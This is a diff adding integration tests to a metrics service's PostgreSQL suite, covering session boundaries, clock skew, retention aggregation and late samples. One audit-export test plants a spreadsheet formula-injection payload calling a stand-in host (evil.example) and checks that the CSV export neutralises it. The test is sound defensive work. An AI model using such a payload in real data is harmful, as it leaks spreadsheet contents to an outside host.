@@ -285,6 +285,34 @@ describe('the metrics engine on a real PostgreSQL', () => {
       ]);
     });
 
+    it('does not count a session in the period after it ends exactly on the boundary', async () => {
+      await ingest([
+        usage('session-start', 'b1', '2026-03-02T09:00:00Z'),
+        usage('session-end', 'b1', '2026-03-02T10:00:00Z'),
+      ]);
+      const { rows } = await get<{ rows: unknown[] }>(
+        '/api/reports/concurrency?from=2026-03-02T08:00:00Z&to=2026-03-02T12:00:00Z&period=hour',
+      );
+      expect(rows).toEqual([
+        { periodStart: '2026-03-02T08:00:00.000Z', peak: 0 },
+        { periodStart: '2026-03-02T09:00:00.000Z', peak: 1 },
+        { periodStart: '2026-03-02T10:00:00.000Z', peak: 0 },
+        { periodStart: '2026-03-02T11:00:00.000Z', peak: 0 },
+      ]);
+    });
+
+    it('never keeps an end before its start when clocks disagree', async () => {
+      await ingest([usage('session-start', 'c1', '2026-03-02T10:05:00Z')]);
+      await ingest([usage('session-end', 'c1', '2026-03-02T10:03:00Z')]);
+      const [row] = await db.$queryRaw<[{ startedAt: Date; endedAt: Date }]>`
+        SELECT "startedAt", "endedAt" FROM "UsageSession" WHERE "sessionId" = 'c1'`;
+      expect(row.endedAt.getTime()).toBeGreaterThanOrEqual(row.startedAt.getTime());
+      const { rows } = await get<{ rows: UsageReportRow[] }>(
+        '/api/reports/usage?from=2026-03-02T00:00:00Z&to=2026-03-03T00:00:00Z&period=day&groupBy=user',
+      );
+      expect(rows.every((r) => r.minutes >= 0)).toBe(true);
+    });
+
     it('refuses a range that ends before it starts, naming the field', async () => {
       const response = await fetch(
         `${service.url}/api/reports/usage?from=2026-03-02T00:00:00Z&to=2026-03-01T00:00:00Z`,
@@ -377,6 +405,23 @@ describe('the metrics engine on a real PostgreSQL', () => {
       expect(lines[0]).toBe('id,at,actorId,actorName,orgId,action,targetType,targetId,before,after');
       expect(lines).toHaveLength(3);
       expect(lines[1]).toContain('"{""n"":3}"');
+      await ingest([
+        {
+          kind: 'audit',
+          at: new Date().toISOString(),
+          actorId: 'u-evil',
+          actorName: '=HYPERLINK("https://evil.example/?"&A2,"x")',
+          action: 'user.update',
+          targetType: 'user',
+          targetId: 'u-evil',
+          before: null,
+          after: null,
+        },
+      ]);
+      const formula = await fetch(`${service.url}/api/audit?actorId=u-evil&format=csv`, {
+        headers: { authorization: `Bearer ${TOKEN}` },
+      });
+      expect(await formula.text()).toContain(`"'=HYPERLINK(`);
       const bad = await fetch(`${service.url}/api/audit?cursor=not-a-cursor`, {
         headers: { authorization: `Bearer ${TOKEN}` },
       });
@@ -418,7 +463,8 @@ describe('the metrics engine on a real PostgreSQL', () => {
       ]);
       const outcome = await service.app.get(RetentionService).run(now);
       expect(outcome).toMatchObject({ deletedSamples: 2, deletedActivity: 1, deletedAudit: 1 });
-      expect(outcome?.aggregatedHours).toBe(2);
+      // both hours in the recent pass, then the hour about to be deleted once more from all its samples
+      expect(outcome?.aggregatedHours).toBe(3);
       expect(await count('MetricSample')).toBe(1);
       const hourly = await db.$queryRaw<{ count: number; sum: number; min: number; max: number }[]>`
         SELECT count, sum, min, max FROM "SampleHourly" ORDER BY hour`;
@@ -434,6 +480,27 @@ describe('the metrics engine on a real PostgreSQL', () => {
         { count: 2, sum: 40 },
         { count: 1, sum: 50 },
       ]);
+    });
+
+    it('summarises samples that arrived late before their hour is deleted', async () => {
+      const now = new Date('2026-03-10T12:30:00Z');
+      const service_ = service.app.get(RetentionService);
+      await ingest([
+        { kind: 'sample', metric: 'node.cpu', value: 10, at: '2026-03-10T11:10:00Z', node: NODE },
+      ]);
+      await service_.run(now);
+      // hours late: the recent-hours pass has moved on, but the hour is still kept raw
+      await ingest([
+        { kind: 'sample', metric: 'node.cpu', value: 70, at: '2026-03-07T15:20:00Z', node: NODE },
+      ]);
+      await service_.run(now);
+      await service_.run(new Date('2026-03-10T16:30:00Z'));
+      expect(
+        await db.$queryRaw`SELECT count, sum FROM "SampleHourly" WHERE hour = '2026-03-07T15:00:00Z'`,
+      ).toEqual([{ count: 1, sum: 70 }]);
+      expect(
+        await db.$queryRaw`SELECT count(*)::int AS n FROM "MetricSample" WHERE at < '2026-03-08T16:00:00Z'`,
+      ).toEqual([{ n: 0 }]);
     });
 
     it('answers a metric over time from raw samples and, beyond raw retention, from hourly aggregates', async () => {
